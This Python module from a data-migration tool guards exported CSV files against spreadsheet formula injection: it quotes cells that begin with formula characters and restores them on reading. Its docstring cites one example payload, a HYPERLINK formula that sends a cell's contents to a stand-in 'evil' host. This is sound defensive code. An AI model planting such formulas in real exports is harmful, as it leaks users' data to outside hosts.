"""CSV files people open in a spreadsheet: formulas neutralised on the way out, restored on
the way back in.

A legacy value such as `=HYPERLINK("http://evil/?"&A1)` or `+49 30 1234` written as it is to a
CSV becomes a formula when the file is opened in Excel or LibreOffice. Every CSV crmmigrate
writes (staged .csv, rejects, changes, notes, failures, filtered, dedupe pairs and review,
decisions) goes through `write_csv`, which applies the OWASP rule: a text cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a `'` in front, which a spreadsheet
shows as text. So that the raw value stays recoverable and round trips are exact, a cell that
begins with quotes followed by one of those characters gets one more quote too; removing one
leading quote from a cell that begins with quotes then one of those characters gives the raw
value back, and `read_csv` (every reader of a CSV crmmigrate wrote) does exactly that.

Only text is touched: numbers in numeric columns are numbers, never formulas, and Parquet
files and the target database always get the values as they are.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO, Any

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

QUOTE = "'"
_TRIGGER = r"[=+\-@\t\r]"
# A raw value that is written with one more quote in front, and the quote taken off again.
_NEUTRALISE = (re.compile(rf"^('*{_TRIGGER})"), QUOTE + r"\1")
_RESTORE = (re.compile(rf"^'('*{_TRIGGER})"), r"\1")


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with a quote in front of every text cell and column name a spreadsheet would
    read as a formula (or that begins with quotes before such a character); the frame itself
    is not changed."""
    return _rewrite(frame, *_NEUTRALISE)


def restore(frame: pd.DataFrame) -> pd.DataFrame:
    """What `neutralise` did undone: the raw values (and column names) back."""
    return _rewrite(frame, *_RESTORE)


def write_csv(frame: pd.DataFrame, target: Path | str | IO[str], **options: Any) -> None:
    """`frame.to_csv(target, index=False, encoding="utf-8", **options)`, neutralised, with
    CRLF line ends (RFC 4180): Python's csv quotes a cell only for the line end's characters,
    so with "\n" alone a cell holding a carriage return would break its row in two."""
    neutralise(frame).to_csv(
        target, **{"index": False, "encoding": "utf-8", "lineterminator": "\r\n", **options}
    )


def append_row(path: Path, row: dict[str, Any], columns: list[str]) -> None:
    """One row added to the CSV at `path` (with the header first when the file is new)."""
    write_csv(pd.DataFrame([row], columns=columns), path, mode="a", header=not Path(path).exists())


def read_csv(path: Path | str, **options: Any) -> pd.DataFrame:
    """A CSV crmmigrate wrote, every cell a string (empty as ""), raw values restored."""
    return restore(pd.read_csv(path, **{"dtype": str, "keep_default_na": False, **options}))


def _rewrite(frame: pd.DataFrame, pattern: re.Pattern[str], replacement: str) -> pd.DataFrame:
    """`frame` with `pattern` replaced in its text cells and column names (a legacy header is a
    row a person sees too); the frame itself when nothing matched."""
    names = [pattern.sub(replacement, name) if isinstance(name, str) else name for name in frame.columns]
    if names != list(frame.columns):
        frame = frame.set_axis(pd.Index(names, dtype=object), axis=1)
    changed: pd.DataFrame | None = None
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if (pd.api.types.is_numeric_dtype(column) or pd.api.types.is_bool_dtype(column)
                or pd.api.types.is_datetime64_any_dtype(column)):
            continue  # a number is never a formula
        rewritten = _rewrite_values(column, pattern, replacement)
        if rewritten is not None:
            changed = frame.copy() if changed is None else changed
            changed.isetitem(position, rewritten)
    return frame if changed is None else changed


def _rewrite_values(values: pd.Series, pattern: re.Pattern[str], replacement: str) -> pd.Series | None:
    """`values` with `pattern` replaced where they are text, or None when it matches none: in
    Arrow (several times faster on the millions of cells of a changes file), or value by value
    when they are not all text."""
    try:
        text = pa.array(values, from_pandas=True, type=pa.large_string())
    except (pa.ArrowInvalid, pa.ArrowTypeError):
        hits = [isinstance(v, str) and pattern.match(v) is not None for v in values]
        if not any(hits):
            return None
        return pd.Series([pattern.sub(replacement, v) if hit else v for v, hit in zip(values, hits, strict=True)],
                         index=values.index, dtype=object)
    if not pc.any(pc.match_substring_regex(text, pattern.pattern)).as_py():
        return None
    rewritten = pc.replace_substring_regex(text, pattern.pattern, replacement, max_replacements=1)
    return pd.Series(rewritten.to_pandas(), index=values.index)


__all__ = ["QUOTE", "append_row", "neutralise", "read_csv", "restore", "write_csv"]
